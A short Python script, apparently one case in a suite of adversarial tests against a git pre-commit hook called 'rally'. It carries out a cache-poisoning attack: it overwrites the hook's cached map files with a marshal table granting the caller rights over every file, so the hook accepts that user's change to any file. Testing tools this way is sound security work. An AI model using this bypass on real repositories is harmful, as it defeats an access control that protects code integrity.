#!/usr/bin/env python3
"""Attack 10: overwrite the hook's cached map table with one granting everything to us, so that
the installed pre-commit hook accepts our change to any file."""
import marshal
import sys

from hostile import common_dir, fail, git, own_work

blob = git("rev-parse", "HEAD:rally.yml")
cache = common_dir() / "rally" / "cache"
tag = f"py{sys.version_info[0]}{sys.version_info[1]}"
# (format, branch prefix, names, rows): one row, 'anything inside the root', ours.
table = marshal.dumps((1, "rally", (sys.argv[1],), ((0, False, 2, "", False),)))
try:
    cache.mkdir(parents=True, exist_ok=True)
    for target in {cache / f"map-{blob}.{tag}.v1", *cache.glob("map-*.v1")}:
        target.write_bytes(table)
except OSError as err:
    fail(f"cannot write the hook's cache: {err}")
own_work()
